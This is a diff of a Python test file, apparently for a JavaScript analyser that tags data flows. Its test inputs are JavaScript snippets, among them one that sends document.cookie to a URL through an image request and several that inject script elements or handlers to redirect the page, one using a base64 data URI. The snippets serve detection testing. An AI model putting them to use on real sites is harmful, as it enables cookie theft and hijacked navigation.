@@ -31,11 +31,12 @@ def test_tags(path, tags):
         ("var i=new Image();i.src=U+'?'+document.cookie", [("sends", "U?\ufffd", "cookie")]),
         ("var s=document.createElement('script');s.text='location.href=U'", [("leads", "U", "")]),
         (
-            "var s=document.createElement('script');s.appendChild(document.createTextNode('x'));s.append('location.href=U')",
+            "var s=document.createElement('script');s.append('location.href=U')",
             [("leads", "U", "")],
         ),
         (
-            "var s=document.createElement('script');s.src='data:text/javascript;base64,bG9jYXRpb24uaHJlZj1V'",
+            "var s=document.createElement('script');"
+            "s.src='data:text/javascript;base64,bG9jYXRpb24uaHJlZj1V'",
             [("leads", "U", "")],
         ),
         (
@@ -109,7 +110,8 @@ def test_tags(path, tags):
             [("runs-remote", "\ufffd", "message")],
         ),
         (
-            "var d=document.createElement('div');d.addEventListener('load',function(){location.href=U})",
+            "var d=document.createElement('div');"
+            "d.addEventListener('load',function(){location.href=U})",
             [("leads", "U", "")],
         ),
         ("onload=function(){location.href=U}", [("leads", "U", "")]),
